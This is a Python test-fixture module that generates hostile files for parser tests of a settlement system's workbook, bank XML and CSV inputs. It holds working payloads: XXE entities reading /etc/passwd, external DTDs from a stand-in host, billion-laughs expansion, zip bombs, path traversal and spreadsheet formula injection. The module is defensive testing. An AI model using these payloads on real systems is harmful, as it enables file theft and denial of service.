"""Files made to hurt: each by a name, who sends it, and its bytes. What the sample forms `refused-*` show is not made again here."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial

from parsers.camt import render_statements
from parsers.registry_csv import render_positions
from parsers.trades_csv import render_trades
from tests.support.books import advice, at, entry, form, ist_line, trade
from tests.support.form_cases import Parts, repacked

SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
LAUGHS = (
    b'<!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, (b"&%c;" % (97 + n)) * 10) for n in range(12))
    + b"]>"
)
THIEF = b'<!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
FOREIGN = b'<!DOCTYPE t SYSTEM "http://192.0.2.1/evil.dtd">'
PARAMETER = b'<!DOCTYPE t [<!ENTITY % p SYSTEM "http://192.0.2.1/evil.dtd"> %p;]>'


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file of a party; `make` gives its bytes."""

    name: str
    party: str
    file_name: str
    make: Callable[[], bytes]


def workbook(reference: str = "H-1", **line: object) -> bytes:
    """A form of B01 with one line, and what is changed in the line."""
    values = dict(ist_line("T-H", "B01-HO", "B01-DO", 5)) | line
    return form("IST", "B01", reference, lines=[values])


def within(part: str, change: Callable[[bytes], bytes]) -> Callable[[], bytes]:
    """A right form with one part changed."""

    def changed(parts: Parts) -> None:
        before = parts[part]
        parts[part] = change(before)
        assert parts[part] != before, f"{part} has nothing to change"

    return lambda: repacked(workbook(), changed)


def declared(doctype: bytes, use: bytes = b"") -> Callable[[bytes], bytes]:
    """A document type put behind the XML declaration, and an entity used in the first text."""

    def change(content: bytes) -> bytes:
        head, sign, rest = content.partition(b"?>")
        body = rest if sign else content
        at_ = body.find(b">", body.find(b"<")) + 1
        return (head + sign if sign else b"") + doctype + body[:at_] + use + body[at_:]

    return change


def sheet(rows: bytes) -> Callable[[bytes], bytes]:
    """A sheet whose rows are followed by these."""
    return lambda content: content.replace(b"</sheetData>", rows + b"</sheetData>", 1)


def million_rows_without_numbers() -> bytes:
    """Rows that do not say their number, of contents that hardly compress; too many for a form."""
    draw = random.Random(1)
    rows = b"".join(b"<row><c><v>%d</v></c></row>" % draw.getrandbits(40) for _ in range(1_000_001))
    return within(SHEET, sheet(rows))()


def wide_row() -> bytes:
    """A row of very many cells without references."""
    draw = random.Random(2)
    cells = b"".join(b"<c><v>%d</v></c>" % draw.getrandbits(40) for _ in range(500_000))
    return within(SHEET, sheet(b"<row>" + cells + b"</row>"))()


def long_text_everywhere() -> bytes:
    """One long text that a hundred thousand cells refer to: it takes its length again for each."""
    text = "".join(random.Random(3).choices("abcdefghijklmnopqrstuvwxyz0123456789", k=200_000)).encode()

    def change(parts: Parts) -> None:
        count = parts[STRINGS].count(b"<si>")
        parts[STRINGS] = parts[STRINGS].replace(b"</sst>", b"<si><t>" + text + b"</t></si></sst>")
        rows = b"".join(
            b'<row r="%d"><c r="A%d" t="s"><v>%d</v></c></row>' % (n, n, count) for n in range(1000, 101_000)
        )
        parts[SHEET] = parts[SHEET].replace(b"</sheetData>", rows + b"</sheetData>")

    return repacked(workbook(), change)


def nested_zips() -> bytes:
    """A zip of zips of zips, each full of nothing, as 42.zip is."""
    content = b"\0" * 4_000_000
    for _ in range(4):
        target = io.BytesIO()
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
            for number in range(16):
                package.writestr(f"lib {number}.zip", content)
        content = target.getvalue()
    return content


def quoted_overlap() -> bytes:
    """Many names, each of which quotes the headers of the next, down to one packed kernel (a bomb that does not nest)."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = kernel.compress(b" " * 5_000_000) + kernel.flush()
    names = [b"[Content_Types].xml", b"xl/workbook.xml", *(b"xl/worksheets/sheet%d.xml" % n for n in range(1, 200))]
    body, sizes, crcs = b"", [], []
    offsets: list[int] = []
    content, plain = packed, b" " * 5_000_000
    pieces: list[bytes] = []
    for name in reversed(names):
        crc, size = zlib.crc32(plain) if len(plain) < 6_000_000 else 0, len(plain)
        header = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(content), size, len(name), 0) + name
        pieces.append(header)
        sizes.append((len(content), size))
        crcs.append(crc)
        # The next one outside quotes this header in a stored block before the same packed data.
        quote = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF) + header
        content, plain = quote + content, header + plain
    body = b""
    rest = packed
    for header, name in zip(pieces, reversed(names), strict=True):
        rest = header + rest if name == names[-1] else header + struct.pack("<BHH", 0, 0, 0xFFFF) + rest
    body = rest
    start = 0
    offsets = []
    for _ in names:
        start = body.index(b"PK\3\4", start)
        offsets.append(start)
        start += 4
    listed = b""
    for name, offset, (packed_size, size), crc in zip(names, offsets, reversed(sizes), reversed(crcs), strict=True):
        listed += (
            struct.pack(
                "<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 0, crc, packed_size, size, len(name), 0, 0, 0, 0, 0, offset
            )
            + name
        )
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, len(names), len(names), len(listed), len(body), 0)
    return body + listed + end


def understated() -> bytes:
    """A part whose list entry says that it is small."""
    draw = random.Random(4)
    filler = b"<!--" + draw.randbytes(100_000).hex().encode() + b"-->"
    data = bytearray(within("xl/styles.xml", lambda c: c + filler)())
    for sign, size_at in ((b"PK\1\2", 24), (b"PK\3\4", 22)):
        found = data.find(sign)
        while found >= 0:
            name_at = found + (46 if sign == b"PK\1\2" else 30)
            if data[name_at : name_at + 13] == b"xl/styles.xml":
                data[found + size_at : found + size_at + 4] = struct.pack("<I", 100)
            found = data.find(sign, found + 4)
    return bytes(data)


def statement(change: Callable[[bytes], bytes]) -> Callable[[], bytes]:
    """A right advice of the bank, changed."""
    return lambda: change(render_statements([advice(entry("H-1", "10.00", "B01"))], True, at("09:05")))


def trades(change: Callable[[bytes], bytes]) -> Callable[[], bytes]:
    """A right file of the exchange, changed."""
    return lambda: change(render_trades([trade("H-1", "B01-HO", "B02-HO", 10)]))


def positions(change: Callable[[bytes], bytes]) -> Callable[[], bytes]:
    """A right file of the registry, changed."""
    return lambda: change(render_positions([]))


def replaced(old: str, new: str) -> Callable[[bytes], bytes]:
    """One text for another."""

    def change(content: bytes) -> bytes:
        assert old.encode() in content, old
        return content.replace(old.encode(), new.encode())

    return change


def workbooks() -> Iterator[Hostile]:
    """Workbooks that attack who opens them."""

    def one(name: str, make: Callable[[], bytes]) -> Hostile:
        return Hostile(name, "B01", f"{name.replace(' ', '-')}.xlsx", make)

    for part in (
        SHEET,
        STRINGS,
        "xl/styles.xml",
        "xl/workbook.xml",
        "[Content_Types].xml",
        "docProps/core.xml",
        "_rels/.rels",
    ):
        short = part.rpartition("/")[2]
        yield one(f"laughs in {short}", within(part, declared(LAUGHS, b"&l;")))
        yield one(f"reads a file by {short}", within(part, declared(THIEF, b"&x;")))
    yield one("foreign type in the sheet", within(SHEET, declared(FOREIGN)))
    yield one("parameter entity in the sheet", within(SHEET, declared(PARAMETER)))
    yield one("a million rows without numbers", million_rows_without_numbers)
    yield one("half a million cells in a row", wide_row)
    yield one("long text in every cell", long_text_everywhere)
    yield one("zips in zips", nested_zips)
    yield one("quoted overlap", quoted_overlap)
    yield one("understated size", understated)
    yield one("nested deeply", within(SHEET, sheet(b"<a>" * 200_000)))
    yield one("row number beyond all numbers", within(SHEET, sheet(b'<row r="99999999999999999999"><c r="A1"/></row>')))
    yield one("row below nought", within(SHEET, sheet(b'<row r="-1"><c r="A-1"><f>1</f></c></row>')))
    yield one("cell of another alphabet", within(SHEET, sheet('<row r="900"><c r="Ж900"><f>1</f></c></row>'.encode())))
    target = b'Target="../../../../../../etc/passwd"'
    yield one(
        "sheet outside of the package",
        within("xl/_rels/workbook.xml.rels", lambda c: c.replace(b'Target="worksheets/sheet1.xml"', target, 1)),
    )


def oddities() -> Iterator[Hostile]:
    """Workbooks that are far from what anybody makes, and can be read all the same."""
    sheets = b"".join(b'<sheet name="S%d" sheetId="%d" r:id="rId1"/>' % (n, n + 10) for n in range(50_000))
    yield Hostile(
        "very many sheets",
        "B01",
        "many-sheets.xlsx",
        within("xl/workbook.xml", lambda c: c.replace(b"</sheets>", sheets + b"</sheets>")),
    )
    merged = b"".join(b'<mergeCell ref="A%d:C%d"/>' % (n, n) for n in range(1000, 100_000))
    yield Hostile(
        "very many merged cells",
        "B01",
        "many-merged-cells.xlsx",
        within(SHEET, lambda c: c.replace(b"</sheetData>", b"</sheetData><mergeCells>" + merged + b"</mergeCells>", 1)),
    )


def contents() -> Iterator[Hostile]:
    """Right workbooks that say what they must not."""

    def one(name: str, make: Callable[[], bytes]) -> Hostile:
        return Hostile(name, "B01", f"{name.replace(' ', '-')}.xlsx", make)

    yield one(
        "form of another participant", lambda: form("IST", "B02", "H-2", lines=[ist_line("T-H", "B02-HO", "B02-DO", 5)])
    )
    yield one("account of another participant", lambda: workbook(own_account="B02-HO"))
    yield one("account in Cyrillic letters", lambda: workbook(own_account="В01-НО"))
    yield one(
        "participant in Cyrillic letters",
        lambda: form("IST", "B01", "H-3", lines=[ist_line("T", "B01-HO", "B01-DO")], participant="В01"),
    )
    yield one("ISIN in Cyrillic letters", lambda: workbook(isin="КZХ000009022"))
    yield one("quantity in wide digits", lambda: workbook(quantity="１０"))
    yield one("quantity in Arabic digits", lambda: workbook(quantity="١٠"))
    yield one("quantity with an exponent", lambda: workbook(quantity="1e3"))
    yield one("quantity without end", lambda: workbook(quantity="9" * 400))
    yield one("ISIN in wide digits", lambda: workbook(isin="KZX00000９022"))
    for sign in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", '=HYPERLINK("http://192.0.2.1","x")'):
        yield one(f"formula as reference {ord(sign[0])} {len(sign)}", partial(workbook, reference=sign))
    yield one("reference turned around", lambda: workbook(reference="T\u202e1-H"))
    yield one("reference with a line end", lambda: workbook(reference="T\nH"))
    yield one("reference with a sign without width", lambda: workbook(reference="T\u200bH"))


def feeds() -> Iterator[Hostile]:
    """Files of bank, exchange and registry."""

    def bank(name: str, change: Callable[[bytes], bytes]) -> Hostile:
        return Hostile(f"bank {name}", "bank", f"{name.replace(' ', '-')}.xml", statement(change))

    def exchange(name: str, change: Callable[[bytes], bytes]) -> Hostile:
        return Hostile(f"exchange {name}", "exchange", f"{name.replace(' ', '-')}.csv", trades(change))

    def registry(name: str, change: Callable[[bytes], bytes]) -> Hostile:
        return Hostile(f"registry {name}", "registry", f"{name.replace(' ', '-')}.csv", positions(change))

    yield bank("laughs", declared(LAUGHS, b"&l;"))
    yield bank("reads a file", declared(THIEF, b"&x;"))
    yield bank("foreign type", declared(FOREIGN))
    yield bank("parameter entity", declared(PARAMETER))
    yield bank("is a workbook", lambda _: workbook())
    yield bank("in UTF-16", lambda c: c.decode().encode("utf-16"))
    yield bank("cut off", lambda c: c[:-30])
    yield bank("nested deeply", lambda c: c.replace(b"<Ntry>", b"<Ntry>" + b"<x>" * 100_000))
    yield bank("very long attribute", lambda c: c.replace(b"<Ntry>", b'<Ntry x="' + b"y" * 12_000_000 + b'">'))
    yield bank("amount without end", replaced(">10.00<", f">{'9' * 400}<"))
    yield bank("amount with an exponent", replaced(">10.00<", ">1e999999999<"))
    yield bank("amount in wide digits", replaced(">10.00<", ">１０.00<"))
    yield bank("amount below nought", replaced(">10.00<", ">-10.00<"))
    yield bank("nothing at all", lambda _: b"")
    for make in (exchange, registry):
        yield make("is a workbook", lambda _: workbook())
        yield make("zeros", lambda _: b"\0" * 2_000_000)
        yield make("one endless line", lambda c: c + b"x" * 20_000_000)
        yield make("a quote never closed", lambda c: c + b'"' + b"x,\n" * 1_000_000)
        yield make("in UTF-16", lambda c: c.decode().encode("utf-16"))
        yield make("no text at all", lambda c: c + random.Random(5).randbytes(5000))
        yield make("nothing", lambda _: b"")
        yield make("a million lines", lambda c: c + b"x,x,x,x,x\n" * 1_000_000)
    yield exchange("account in Cyrillic letters", replaced("B01-HO", "В01-НО"))
    yield exchange("quantity in wide digits", replaced(",10,", ",１０,"))
    yield exchange("quantity without end", replaced(",10,", f",{'9' * 400},"))
    yield exchange("formula as number of the trade", replaced("H-1", "=1+1"))
    yield exchange("number turned around", replaced("H-1", "H\u202e1"))


def every() -> list[Hostile]:
    """All of them."""
    return [*workbooks(), *contents(), *feeds()]
